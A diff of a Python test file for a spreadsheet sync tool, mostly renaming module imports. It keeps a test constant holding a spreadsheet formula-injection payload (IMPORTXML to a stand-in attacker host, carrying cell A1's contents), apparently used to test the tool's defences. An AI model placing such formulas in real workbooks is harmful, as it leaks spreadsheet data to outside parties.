@@ -14,12 +14,12 @@ import openpyxl
 import pytest
 from fake_sheets import FakeSheets, make_client
 
-import sheets_bridge as sb
+import leverage_sheets as sb
 from bench.measure import naive_sync, sample_grids
 from leverage import journal, portfolio
 from leverage.errors import InputError
 from leverage.layout import JOURNAL_EVENTS, REBALANCE_POSITIONS, TEMPLATES, account_row
-from sheets_bridge.backend import Grid
+from leverage_sheets.backend import Grid
 
 INJECTION = '=IMPORTXML("http://attacker.invalid/?q="&A1,"//a")'
 
@@ -567,7 +567,7 @@ def test_init_journal_sample_on_google_writes_dates_as_serials(fake: FakeSheets)
 
 
 def test_sync_refuses_a_workbook_that_computes_itself(tmp_path) -> None:
-    import templates
+    import leverage_templates as templates
 
     path = templates.build_journal(tmp_path / "journal.xlsx", mode="native")
     before = path.read_bytes()
@@ -641,7 +641,7 @@ def test_rebalance_amber_highlight_reaches_both_synced_sheets(
 def test_synced_and_built_workbooks_share_highlights_and_drop_downs(
     tmp_path: Path, template: str
 ) -> None:
-    import templates
+    import leverage_templates as templates
 
     build = templates.build_journal if template == "journal" else templates.build_rebalance
     built = openpyxl.load_workbook(build(tmp_path / "built.xlsx", mode="native"))
@@ -674,7 +674,7 @@ def test_the_bridge_imports_without_lxml(tmp_path: Path) -> None:
         "        if name == 'lxml' or name.startswith('lxml.'):\n"
         "            raise ImportError('lxml is blocked')\n"
         "sys.meta_path.insert(0, Block())\n"
-        "import sheets_bridge, sheets_bridge.cli\n"
+        "import leverage_sheets, leverage_sheets.cli\n"
         "from leverage.cli import main\n"
         "book = sys.argv[1]\n"
         "init = ['sheets', 'init', '--file', book, '--template', 'journal', '--sample']\n"
